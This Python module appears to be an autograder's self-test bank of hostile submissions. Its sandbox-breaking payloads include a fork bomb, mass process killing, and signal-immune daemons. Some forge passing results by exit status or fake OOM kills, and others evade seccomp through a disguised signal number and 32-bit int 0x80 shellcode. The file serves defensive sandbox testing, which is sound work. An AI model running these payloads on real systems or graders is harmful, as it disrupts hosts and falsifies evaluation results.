"""Threads, children and signals: code that continues after its answer, or ends every process that it can reach."""

from autograder.selftest.attack.bank import MARK, SOLVED, STUB, Attack

OUTLIVE = f'''
import os
import signal
import threading
import time

for kind in range(3):
    if os.fork() == 0:
        if kind:
            os.setsid()
        if kind == 2 and os.fork():
            os._exit(0)
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            time.sleep(1)
            try:
                open("/tmp/{MARK}", "w").close()
            except OSError:
                pass
threading.Thread(target=signal.pause, daemon=True).start()
threading.Timer(30, os._exit, (0,)).start()
'''

LATER = '''
import os
import threading
import time


def whisper():
    """While the grader waits for the next answer, give it one."""
    import codec
    while True:
        for number in range(2, 40):
            try:
                os.write(3, codec.frame(codec.encode((number, "ok", 1.0))))
            except OSError:
                return
        time.sleep(0.001)


threading.Thread(target=whisper, daemon=True).start()
'''

BOMB = '''
import os


def backpropagate(node, value):
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''

SIGNALS = '''
import os
import signal

me = os.getpid()
for pid in (-1, 0, 1, 2, os.getppid(), *range(2, 400)):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGKILL):
        if pid not in (0, me) and me not in (pid, -pid):
            try:
                os.kill(pid, number)
            except OSError:
                pass
'''

EXIT = '''
import os


def forged(*args, **kwargs):
    """End well: a status of 0 is success."""
    os._exit(0)
'''

CRASH = '''
import ctypes


def forged(*args, **kwargs):
    ctypes.string_at(0)
'''

KILLED = '''
import os
import signal


def forged(*args, **kwargs):
    """Look as if the host had run out of memory, which would be nobody's fault."""
    if os.fork() == 0:
        os._exit(0)
    os.kill(os.getpid(), signal.SIGKILL)
'''

UNPAID = '''
import os
import signal


def backpropagate(node, value):
    """Let children do the work whom the kernel buries without a word on their time."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        if os.fork() == 0:
            for _ in range(1_000_000):
                pass
            os._exit(0)
'''

UNPAID_AGAIN = '''
import ctypes
import os

CALL = {"x86_64": 13, "aarch64": 134}[os.uname().machine]
IGNORE = (ctypes.c_uint64 * 20)(1, 0x04000002)


def backpropagate(node, value):
    """The same, by a number whose lower half is SIGCHLD's: a filter may look at the upper half, the kernel does not."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(CALL, ctypes.c_long((1 << 32) + 17), IGNORE, None, ctypes.c_long(8)) == -1:
        raise PermissionError("refused")
    while True:
        if os.fork() == 0:
            for _ in range(1_000_000):
                pass
            os._exit(0)
'''

NOBODYS = '''
import mmap
import os
import signal


def hold():
    """Fill memory that counts as nobody's: shared pages, given back one by one, which stay while somebody could ask."""
    room = mmap.mmap(-1, 200 << 20)
    for at in range(0, len(room), 1 << 20):
        room[at : at + (1 << 20)] = bytes(1 << 20)
        room.madvise(mmap.MADV_DONTNEED)
    return room


def backpropagate(node, value):
    """Let the kernel find nobody but the sandbox itself to kill."""
    rooms = []
    for _ in range(9):
        if os.fork() == 0:
            os.closerange(3, 64)
            rooms.append(hold())
            while True:
                signal.pause()
    rooms.append(hold())
    os.wait()
    os._exit(0)
'''

NUMBERS = '''
import os

numbers = [os.getpid()]
for _ in range(20):
    child = os.fork()
    if child == 0:
        os._exit(0)
    numbers.append(child)
    os.waitpid(child, 0)


def forged(*args, **kwargs):
    """Read how many processes there were in this sandbox, and leave twenty more."""
    if numbers != list(range(2, 23)):
        raise RuntimeError(f"LOOT so many processes were here before: {numbers}")
'''

REPORTED = '''
import ctypes
import resource

gained = []
for limits in ((0, 0), (0, 1), (resource.RLIM_INFINITY, resource.RLIM_INFINITY)):
    for change in (lambda: resource.setrlimit(resource.RLIMIT_CORE, limits),
                   lambda: resource.prlimit(0, resource.RLIMIT_CORE, limits)):
        try:
            change()
            gained.append(limits)
        except (OSError, ValueError):
            pass
if gained or resource.getrlimit(resource.RLIMIT_CORE) != (1, 1):
    raise RuntimeError(f"LOOT the host's crash handler would keep what it finds: {gained}")


def forged(*args, **kwargs):
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    ctypes.string_at(8)
'''

EXEC = '''
import os
import sys

code = "import os, socket; s = socket.socket(fileno=3); s.sendall(bytes(100)); os._exit(0)"


def forged(*args, **kwargs):
    """Become another program, which keeps the line to the grader."""
    os.set_inheritable(3, True)
    os.execv("/opt/python/bin/python3", ["python3", "-c", code])
'''

LIMITS = '''
import ctypes
import resource

gained = []
for name in ("AS", "NPROC", "CPU", "NOFILE", "FSIZE", "CORE"):
    limit = getattr(resource, f"RLIMIT_{name}")
    for pid in (0, 1):
        try:
            resource.prlimit(pid, limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            gained.append((name, pid))
        except (OSError, ValueError):
            pass
libc = ctypes.CDLL(None, use_errno=True)
for name, arguments in (("setuid", (0,)), ("setgid", (0,)), ("chroot", (b"/",)), ("unshare", (0x10000000,)),
                        ("mount", (b"none", b"/opt", b"tmpfs", 0, None)), ("umount2", (b"/proc", 0)), ("setns", (0, 0)),
                        ("ptrace", (16, 1, 0, 0)), ("sethostname", (b"mine", 4)), ("swapoff", (b"/",)), ("reboot", (0,))):
    if getattr(libc, name)(*arguments) == 0:
        gained.append(name)
if gained:
    raise RuntimeError(f"LOOT {gained}")
'''

OLD_CALLS = '''
import ctypes
import mmap
import platform

# the 32-bit door into the kernel, which a filter of 64-bit calls does not watch: int 0x80 with eax = 359, socket(AF_INET)
code = bytes.fromhex("53 b867010000 bb02000000 b901000000 31d2 cd80 5b c3".replace(" ", ""))


def forged(*args, **kwargs):
    if platform.machine() != "x86_64":
        raise OSError("another machine")
    room = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    room.write(code)
    answer = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(room)))()
    raise RuntimeError(f"LOOT a socket {answer}" if answer >= 0 else "refused")
'''

STOPPED = '''
import os
import signal


def forged(*args, **kwargs):
    """Stop for good, half way: neither at work nor gone."""
    os.close(3)
    while True:
        signal.pause()
'''

ATTACKS = (
    Attack("children that outlive the answer", "Forks daemons that ignore every signal and wait.",
           OUTLIVE, base=SOLVED, points=100.0, quick=True),
    Attack("a thread that answers later", "A thread sends answers to the grader while the grader waits for other answers.", LATER,
           base=STUB),
    Attack("a fork bomb", "Forks without end, so that no other process can start on the host.", BOMB, base=SOLVED,
           points=85.0,
           says="Your code used up its time"),
    Attack("signals to everybody", "Stops and kills every process that it can name.", SIGNALS, base=SOLVED, points=100.0),
    Attack("success by exit", "Ends the process with status 0 in the middle of every check.", EXIT,
           says="Your code ended its own process", stock=True),
    Attack("a crash", "Reads address 0: the interpreter dies, and every other code in the same process.", CRASH,
           says="Your code crashed the interpreter", stock=True),
    Attack("killed by the host, it says", "Kills itself in the way the kernel does when memory is short, to be excused.", KILLED,
           says="Your code ended its own process"),
    Attack("work that nobody accounts for", "Works without end in children whose CPU time the kernel forgets.", UNPAID,
           base=SOLVED,
           points=85.0, says="PermissionError in cell"),
    Attack("work that nobody accounts for, by another number",
           "Ignores its children by a signal number that only looks like another number.",
           UNPAID_AGAIN, base=SOLVED, points=85.0, says="PermissionError in cell"),
    Attack("memory that is nobody's", "Fills memory that belongs to no process, so that the kernel kills the sandbox instead.",
           NOBODYS, base=SOLVED, points=85.0, says="Your code needed more memory than a submission may use"),
    Attack("counting processes", "Leaves a number for the next exercise: how many processes there were before.", NUMBERS),
    Attack("a crash that is reported", "Crashes with a core file, for a handler that runs outside and keeps the file.", REPORTED,
           says="Your code crashed the interpreter"),
    Attack("another program on the line", "Replaces itself by a program that speaks to the grader.", EXEC),
    Attack("more rights", "Raises its limits, becomes root, mounts, traces the first process.", LIMITS, base=SOLVED,
           points=100.0),
    Attack("the old door into the kernel", "Calls the kernel through its 32-bit entry, past a filter of 64-bit calls.",
           OLD_CALLS),
    Attack("a line cut off", "Closes its line to the grader and waits without end.", STOPPED,
           says="Your code ended its own process"),
)
